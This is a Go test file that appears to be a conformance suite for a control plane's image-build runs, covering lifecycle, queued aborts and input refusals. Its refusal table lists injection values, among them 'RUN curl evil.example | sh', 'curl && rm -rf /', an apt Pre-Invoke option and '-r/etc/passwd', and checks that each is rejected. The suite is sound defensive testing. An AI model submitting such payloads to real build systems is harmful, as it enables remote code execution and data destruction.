package controlplanetest

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"

	"github.com/flyte-webhook/flyte-webhook/controlplane"
)

// builds: an image build is a run like any other (kind image_build) that the run methods
// follow and abort; what could inject an option or an instruction is refused before anything
// runs, naming the field; a finished build's outputs carry the reference built and the
// Containerfile holding the requested steps.
func (s *suite) builds(t *testing.T) {
	if s.h.BuildBaseImage == "" {
		t.Fatal("controlplanetest: a harness declaring builds names a BuildBaseImage its builder can build on")
	}
	t.Run("Refusals", s.buildRefusals)
	t.Run("Lifecycle", s.buildLifecycle)
	t.Run("Unnamed", s.buildUnnamed)
	t.Run("AbortQueued", s.buildAbortQueued)
}

func (s *suite) buildRefusals(t *testing.T) {
	t.Parallel()
	b := s.h.New(t)
	cases := []struct {
		name, field string
		req         controlplane.ImageBuild
	}{
		{"pip option injection", "pip_packages", controlplane.ImageBuild{PipPackages: []string{"numpy", "--index-url=https://evil.example/simple"}}},
		{"pip short option", "pip_packages", controlplane.ImageBuild{PipPackages: []string{"-r/etc/passwd"}}},
		{"pip url", "pip_packages", controlplane.ImageBuild{PipPackages: []string{"pkg @ https://evil.example/pkg.whl"}}},
		{"pip newline", "pip_packages", controlplane.ImageBuild{PipPackages: []string{"numpy\nRUN curl evil.example | sh"}}},
		{"pip shell", "pip_packages", controlplane.ImageBuild{PipPackages: []string{"numpy;id"}}},
		{"pip empty", "pip_packages", controlplane.ImageBuild{PipPackages: []string{""}}},
		{"apt option injection", "apt_packages", controlplane.ImageBuild{AptPackages: []string{"-oAPT::Update::Pre-Invoke::=touch /tmp/pwned"}}},
		{"apt shell", "apt_packages", controlplane.ImageBuild{AptPackages: []string{"curl && rm -rf /"}}},
		{"base image newline", "base_image", controlplane.ImageBuild{BaseImage: s.h.BuildBaseImage + "\nRUN curl evil.example | sh"}},
		{"base image option", "base_image", controlplane.ImageBuild{BaseImage: "--build-arg=x"}},
		{"name with space", "name", controlplane.ImageBuild{Name: "app --push"}},
		{"name with host", "name", controlplane.ImageBuild{Name: "Evil.Example:5000/app"}},
		{"platform option", "platform", controlplane.ImageBuild{Platforms: []string{"linux/amd64 --privileged"}}},
		{"python version", "python_version", controlplane.ImageBuild{PythonVersion: "3.12\nRUN id"}},
		{"flyte version", "flyte_version", controlplane.ImageBuild{FlyteVersion: "2.0 --pre"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if c.req.BaseImage == "" {
				c.req.BaseImage = s.h.BuildBaseImage
			}
			_, err := b.BuildImage(s.ctx(), c.req)
			wantCode(t, err, controlplane.CodeInvalidInput, c.field)
		})
	}
}

func (s *suite) buildLifecycle(t *testing.T) {
	t.Parallel()
	b := s.h.New(t)
	req := controlplane.ImageBuild{BaseImage: s.h.BuildBaseImage, Name: "conformance/app", FlyteVersion: "2.0.0",
		PipPackages: []string{"numpy==1.26.4", "pandas>=2,<3"}, AptPackages: []string{"curl"}}
	res, err := b.BuildImage(s.ctx(), req)
	if err != nil {
		t.Fatal(err)
	}
	r := res.Run
	if !runName.MatchString(r.Name) || !strings.HasSuffix(r.URL, r.Name) || r.Kind != controlplane.KindImageBuild || r.Phase.Done() {
		t.Fatalf("build run %+v: want a name matching %s, a url ending in it, kind image_build, not done yet", r, runName)
	}
	if !strings.Contains(res.ImageName, "conformance/app") || res.BaseImage != req.BaseImage ||
		!slices.Equal(res.PipPackages, req.PipPackages) || !slices.Equal(res.AptPackages, req.AptPackages) {
		t.Errorf("result %+v: want the named image, the base image and the packages asked for", res)
	}
	if got, err := b.GetRun(s.ctx(), run(r.Name)); err != nil || got.Kind != controlplane.KindImageBuild {
		t.Fatalf("GetRun of the build: %+v, %v", got, err)
	}
	final := s.waitFor(t, b, r.Name, done)
	if final.Phase != controlplane.PhaseSucceeded {
		t.Fatalf("build %s (%s), want succeeded on %s", final.Phase, final.Error, s.h.BuildBaseImage)
	}
	io, err := b.GetRunIO(s.ctx(), run(r.Name))
	if err != nil {
		t.Fatal(err)
	}
	if !sameStrings(io.Inputs["pip_packages"], req.PipPackages) || !sameStrings(io.Inputs["apt_packages"], req.AptPackages) {
		t.Errorf("inputs %v: want the packages asked for", io.Inputs)
	}
	cf, _ := io.Outputs["containerfile"].(string)
	for _, want := range append([]string{"FROM " + req.BaseImage, "flyte==2.0.0"}, append(req.PipPackages, req.AptPackages...)...) {
		if !strings.Contains(cf, want) {
			t.Errorf("the Containerfile does not hold %q:\n%s", want, cf)
		}
	}
	if io.Outputs["image"] != res.ImageName {
		t.Errorf("outputs image %v, want %q", io.Outputs["image"], res.ImageName)
	}
	if d, _ := io.Outputs["digest"].(string); !strings.HasPrefix(d, "sha256:") {
		t.Errorf("outputs digest %v, want sha256:…", io.Outputs["digest"])
	}
	_, err = b.AbortRun(s.ctx(), controlplane.AbortRunRequest{Run: run(r.Name), Reason: "too late"})
	wantCode(t, err, controlplane.CodeConflict, "")
}

// buildUnnamed: without a name the result names no image (null on the wire, as the Python
// app answers), the backend's default base image applies, and the outputs say what was built.
func (s *suite) buildUnnamed(t *testing.T) {
	t.Parallel()
	b := s.h.New(t)
	res, err := b.BuildImage(s.ctx(), controlplane.ImageBuild{BaseImage: s.h.BuildBaseImage, PipPackages: []string{"numpy"}})
	if err != nil {
		t.Fatal(err)
	}
	if res.ImageName != "" {
		t.Errorf("image name %q for a build without a name, want none", res.ImageName)
	}
	if final := s.waitFor(t, b, res.Run.Name, done); final.Phase != controlplane.PhaseSucceeded {
		t.Fatalf("build %s (%s)", final.Phase, final.Error)
	}
	io, err := b.GetRunIO(s.ctx(), run(res.Run.Name))
	if err != nil {
		t.Fatal(err)
	}
	if img, _ := io.Outputs["image"].(string); img == "" {
		t.Errorf("outputs %v: want the reference built", io.Outputs)
	}
}

// buildAbortQueued: a build waits in the queue like any run, and is aborted like one.
func (s *suite) buildAbortQueued(t *testing.T) {
	t.Parallel()
	if s.h.Concurrency == 0 {
		t.Skip("the harness cannot make a run wait in a queue (Concurrency 0)")
	}
	b := s.h.New(t)
	var ahead []string
	for range s.h.Concurrency {
		ahead = append(ahead, s.start(t, b, "sleep", map[string]any{"seconds": json.Number("60")}).Name)
	}
	for _, name := range ahead {
		s.waitFor(t, b, name, func(r controlplane.Run) bool { return r.Phase == controlplane.PhaseRunning })
	}
	res, err := b.BuildImage(s.ctx(), controlplane.ImageBuild{BaseImage: s.h.BuildBaseImage})
	if err != nil {
		t.Fatal(err)
	}
	if r, err := b.GetRun(s.ctx(), run(res.Run.Name)); err != nil || r.Phase != controlplane.PhaseQueued {
		t.Fatalf("with %d runs ahead, the build is %s (%v), want queued", s.h.Concurrency, r.Phase, err)
	}
	aborted, err := b.AbortRun(s.ctx(), controlplane.AbortRunRequest{Run: run(res.Run.Name), Reason: "not needed"})
	if err != nil || aborted.Phase != controlplane.PhaseAborted {
		t.Fatalf("abort of the queued build: %s, %v; want aborted at once", aborted.Phase, err)
	}
	for _, name := range ahead {
		if _, err := b.AbortRun(s.ctx(), controlplane.AbortRunRequest{Run: run(name), Reason: "cleanup"}); err != nil {
			t.Fatal(err)
		}
		s.waitFor(t, b, name, done)
	}
	if final, err := b.GetRun(s.ctx(), run(res.Run.Name)); err != nil || final.Phase != controlplane.PhaseAborted || final.Attempts != 0 {
		t.Errorf("the aborted build is %s with %d attempts (%v): want aborted, never started", final.Phase, final.Attempts, err)
	}
}

// sameStrings reports whether v (a decoded JSON list) holds exactly want, in order.
func sameStrings(v any, want []string) bool {
	list, ok := v.([]any)
	if !ok || len(list) != len(want) {
		return false
	}
	for i, x := range list {
		if x != want[i] {
			return false
		}
	}
	return true
}
